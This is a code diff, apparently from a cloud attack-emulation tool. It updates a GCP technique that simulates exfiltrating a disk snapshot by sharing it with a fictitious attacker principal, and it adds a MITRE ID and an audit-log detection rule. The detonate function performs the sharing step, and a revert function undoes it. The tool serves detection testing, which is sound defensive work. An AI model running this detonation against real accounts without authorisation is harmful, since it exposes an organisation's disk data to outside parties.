@@ -89,34 +89,41 @@ Based on these events, detection strategies may include:
 protoPayload.methodName="v1.compute.snapshots.setIamPolicy"
 ` + codeBlock + `
 `,
-		Platform:                   stratus.GCP,
-		IsIdempotent:               true,
-		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Exfiltration},
-		Detonate:                   detonate,
-		Revert:                     revert,
+		Platform:              stratus.GCP,
+		IsIdempotent:          true,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Exfiltration},
+		MitreAttackTechniques: []string{"T1537"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"gcp.audit.method_name": {"v1.compute.snapshots.setIamPolicy"}},
+			},
+			FalsePositives: []string{"Snapshots shared with known principals of the organization"},
+		},
+		DetonateWithContext:        detonate,
+		RevertWithContext:          revert,
 		PrerequisitesTerraformCode: tf,
 	})
 }
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	gcp := providers.GCP()
 	snapshotName := params["snapshot_name"]
 	attackerPrincipal := gcp_utils.GetAttackerPrincipal()
 
 	log.Println("Exfiltrating " + snapshotName + " by sharing it with a fictitious attacker")
-	if err := shareSnapshot(context.Background(), gcp, snapshotName, attackerPrincipal); err != nil {
+	if err := shareSnapshot(ctx, gcp, snapshotName, attackerPrincipal); err != nil {
 		return fmt.Errorf("failed to share snapshot: %w", err)
 	}
 	log.Println("Successfully shared snapshot with a fictitious attacker account " + attackerPrincipal)
 	return nil
 }
 
-func revert(params map[string]string, providers stratus.CloudProviders) error {
+func revert(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	gcp := providers.GCP()
 	snapshotName := params["snapshot_name"]
 
 	log.Println("Unsharing " + snapshotName)
-	if err := unshareSnapshot(context.Background(), gcp, snapshotName); err != nil {
+	if err := unshareSnapshot(ctx, gcp, snapshotName); err != nil {
 		return fmt.Errorf("unable to unshare snapshot: %w", err)
 	}
 	log.Println("Successfully unshared the snapshot - it is now private again")